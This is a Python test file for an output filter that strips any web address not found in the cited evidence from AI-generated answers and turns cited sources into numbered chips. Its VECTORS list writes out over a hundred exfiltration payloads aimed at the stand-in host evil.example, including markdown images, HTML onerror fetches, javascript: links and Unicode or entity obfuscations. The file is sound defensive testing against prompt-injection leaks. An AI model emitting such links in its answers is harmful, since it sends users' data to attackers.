"""No address leaves in an answer unless it stands in the evidence, and then as a chip."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from core.policy.links import Citable, settle

POLICY = "https://wiki.larkspur.example/travel"
EVIDENCE = (
    Citable(number=1, label="Sales per region"),
    Citable(number=2, label="Company notes", links=(("Travel policy", POLICY),)),
)

# Each vector carries the word LEAK where an attacker would put what the model read.
VECTORS = [
    "[click](https://evil.example/?q=LEAK)",
    "[click](<https://evil.example/?q=LEAK>)",
    '[click](https://evil.example/?q=LEAK "title")',
    "[click](https://evil.example/?q=LEAK 'ti(t)le')",
    "[a [b] c](https://evil.example/?q=LEAK)",
    "[click](https://evil.example/a(b)c?q=LEAK)",
    "[click](\nhttps://evil.example/?q=LEAK)",
    "[click](https\\://evil.example/?q=LEAK)",
    "[click](HTTPS://EVIL.EXAMPLE/?q=LEAK)",
    "[click](//evil.example/?q=LEAK)",
    "[click](\\\\evil.example\\LEAK)",
    "[click](javascript:alert('LEAK'))",
    "[click](data:text/html;base64,LEAK)",
    "[click](vbscript:LEAK)",
    "[click](mailto:a@evil.example?body=LEAK)",
    "[click](slack://user?team=T&id=LEAK)",
    "[click](msteams://teams.microsoft.com/l/LEAK)",
    "[click](https:/evil.example/LEAK)",
    "[click](https:evil.example/LEAK)",
    "[click](ftp://evil.example/LEAK)",
    "[click](evil.example/LEAK)",
    "[click](www.evil.example?q=LEAK)",
    "![x](https://evil.example/?q=LEAK)",
    "![](https://evil.example/?q=LEAK)",
    "![x](//evil.example/?q=LEAK)",
    "[![x](https://evil.example/i.png)](https://evil.example/?q=LEAK)",
    "![x][ref]\n\n[ref]: https://evil.example/?q=LEAK",
    "[text][ref]\n\n[ref]: https://evil.example/?q=LEAK 'title'",
    "[ref]\n\n[ref]: <https://evil.example/?q=LEAK>",
    "[ref][]\n\n[ref]:\n  https://evil.example/?q=LEAK",
    "> [ref]: https://evil.example/?q=LEAK\n\n[ref]",
    "[text][ref]\n\n   [ref]: //evil.example/?q=LEAK",
    "[text][ref]\n\n[ref]: evil.example/?q=LEAK",
    "<https://evil.example/?q=LEAK>",
    "<https://evil.example/?q=LEAK|our bank>",
    "<evil.example/?q=LEAK|our bank>",
    "<mailto:a@evil.example?body=LEAK|write>",
    "<MAILTO:a@evil.example?body=LEAK>",
    "https://evil.example/?q=LEAK",
    "http://evil.example/?q=LEAK",
    "https://user:pass@evil.example/?q=LEAK",
    "https://evil.example:8443/LEAK",
    "https://10.0.0.1/LEAK",
    "10.0.0.1/LEAK",
    "http://[::1]/LEAK",
    "http://2130706433/LEAK",
    "https://evil.example/?q=LEAK.",
    "(https://evil.example/?q=LEAK)",
    "**https://evil.example/?q=LEAK**",
    "_https://evil.example/?q=LEAK_",
    '"https://evil.example/?q=LEAK"',
    "see:https://evil.example/?q=LEAK",
    "xhttps://evil.example/?q=LEAK",
    "evil.example/?q=LEAK",
    "evil.com/?q=LEAK",
    "evil.com:80/LEAK",
    "www.evil.com/LEAK",
    "evil.com#LEAK",
    "xn--e1awd7f.com/LEAK",
    "еvil.com/LEAK",
    "bücher.example.com/LEAK",
    "ht\u200btps://evil.example/?q=LEAK",
    "https\u2060://evil.example/?q=LEAK",
    "https:\u200d//evil.example/?q=LEAK",
    "h\u00adttps://evil.example/?q=LEAK",
    "ev\u200cil.com/LEAK",
    "\u202ehttps://evil.example/?q=LEAK",
    "https://evil\U000e0061.example/?q=LEAK",
    "&#104;ttps://evil.example/?q=LEAK",
    "&#x68;&#x74;tps&colon;&sol;&sol;evil.example/?q=LEAK",
    "https&#58;//evil.example/?q=LEAK",
    "https:&#47;&#47;evil.example/?q=LEAK",
    "https%3A//evil.example/?q=LEAK",
    "https://evil%2Eexample/?q=LEAK",
    "ｈｔｔｐｓ：／／evil.example/?q=LEAK",
    "https：//evil.example/?q=LEAK",
    "evil。com/LEAK",
    "https:\\\\evil.example\\LEAK",
    "https:/\\evil.example/LEAK",
    "<a href='https://evil.example/?q=LEAK'>x</a>",
    "<a href=//evil.example/?q=LEAK>x</a>",
    '<img src="https://evil.example/?q=LEAK">',
    "<img src=x onerror=fetch('//evil.example/LEAK')>",
    "<iframe src=https://evil.example/?q=LEAK></iframe>",
    "<style>@import 'https://evil.example/?q=LEAK'</style>",
    "<!-- https://evil.example/?q=LEAK -->",
    "data:text/html,LEAK",
    "javascript:LEAK",
    "slack://channel?id=LEAK",
    "msteams:/l/chat/LEAK",
    "mailto:a@evil.example?body=LEAK",
    "tel:+1555LEAK",
    "sms:+1555?body=LEAK",
    "vscode://file/LEAK",
    "intent://evil/LEAK",
    "ms-word:ofe|u|https://evil.example/LEAK",
    "file:///etc/LEAK",
    "`https://evil.example/?q=LEAK`",
    "```\nhttps://evil.example/?q=LEAK\n```",
    "```html\n<img src=https://evil.example/?q=LEAK>\n```",
    "https://wiki.larkspur.example/travel?next=https://evil.example/LEAK",
    "https://wiki.larkspur.example/travel/../LEAK",
    "https://wiki.larkspur.example/redirect?to=//evil.example/LEAK",
    "https://wiki.larkspur.example@evil.example/LEAK",
    "https://wiki.larkspur.example.evil.example/LEAK",
    "| a |\n|---|\n| https://evil.example/?q=LEAK |",
    "- [ ] [x](https://evil.example/?q=LEAK)",
    "# [x](https://evil.example/?q=LEAK)",
    "htt[x](y)ps://evil.example/?q=LEAK",
    "ht<b>tps://evil.example/?q=LEAK",
    "https://evil.example/" + "a" * 3000 + "LEAK",
]

ADDRESS = re.compile(r"LEAK|https?:|evil\.(?:example|com)[/:?#]|javascript:|data:text", re.I)


@pytest.mark.promise("E1", "core.policy")
@pytest.mark.parametrize("vector", VECTORS)
def test_an_address_that_is_not_evidence_does_not_leave(vector: str) -> None:
    text, chips = settle(f"Sales grew by 4 %. {vector}\n\nThat is all.", EVIDENCE)

    assert not ADDRESS.search(text)
    assert chips == ()
    assert "Sales grew by 4 %." in text
    assert "That is all." in text


@pytest.mark.promise("E1", "core.policy")
def test_no_markdown_reader_finds_a_link_in_what_leaves() -> None:
    reader = MarkdownIt("commonmark", {"html": True, "linkify": True}).enable("linkify")
    for vector in VECTORS:
        for token in reader.parse(settle(vector, EVIDENCE)[0]):
            for inline in token.children or ():
                assert inline.type not in ("link_open", "image", "html_inline"), vector


def test_there_are_at_least_eighty_vectors() -> None:
    assert len(set(VECTORS)) >= 80


@pytest.mark.parametrize(
    "text",
    [
        f"Fly economy {POLICY}",
        f"Fly economy ({POLICY}).",
        f"[Fly economy]({POLICY})",
        f"Fly economy <{POLICY}>",
        f"<{POLICY}|Fly economy>",
        "Fly economy [2]",
        "Fly economy 【2】",
        "Fly economy 【2†source】",
    ],
)
def test_a_citation_or_an_evidence_address_becomes_a_chip(text: str) -> None:
    settled, chips = settle(text, EVIDENCE)

    assert [chip.url for chip in chips] == [POLICY]
    assert "[1]" in settled
    assert "http" not in settled


def test_chips_are_numbered_in_the_order_of_the_text() -> None:
    settled, chips = settle(f"Fly economy {POLICY}. Sales grew [1]. Rules [2].", EVIDENCE)

    assert settled == "Fly economy [1]. Sales grew [2]. Rules [1]."
    assert [chip.label for chip in chips] == ["Travel policy", "Sales per region"]


def test_a_number_without_evidence_disappears() -> None:
    assert settle("Sales grew [7].", EVIDENCE) == ("Sales grew.", ())


@pytest.mark.parametrize(
    "text",
    [
        "At 10:30 the ratio was 3:4, e.g. in v1.2.3 of Node.js.",
        "note: this, data: here, and a < b while c > d",
        "Write to lena@larkspur.example, and/or read report.xlsx",
        "```sql\nSELECT a[1], b::text FROM t -- note\n```",
        "| Region | Sales |\n|---|---|\n| North | 1,234.50 |",
        "Προσοχή: 5,5 % · 北部。南部",
        "C++ and List<String>, `a[1]`",
    ],
)
def test_ordinary_text_stays(text: str) -> None:
    assert settle(text, ())[0].replace("<String>", "") == text.replace("<String>", "")


def test_a_bare_host_name_stays_readable_as_code() -> None:
    assert settle("Their shop is larkspur.com.", ())[0] == "Their shop is `larkspur.com`."


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="[]()<>!|`~:/\\.#&; \nahtpsevil.com\u200b12", max_size=60))
def test_settling_twice_changes_nothing_and_leaves_no_scheme(text: str) -> None:
    once = settle(text, ())[0]

    assert not re.search(r"https?:[\\/]{2}", once)
    assert not re.search(r"https?:[\\/]{2}", settle(once, ())[0])
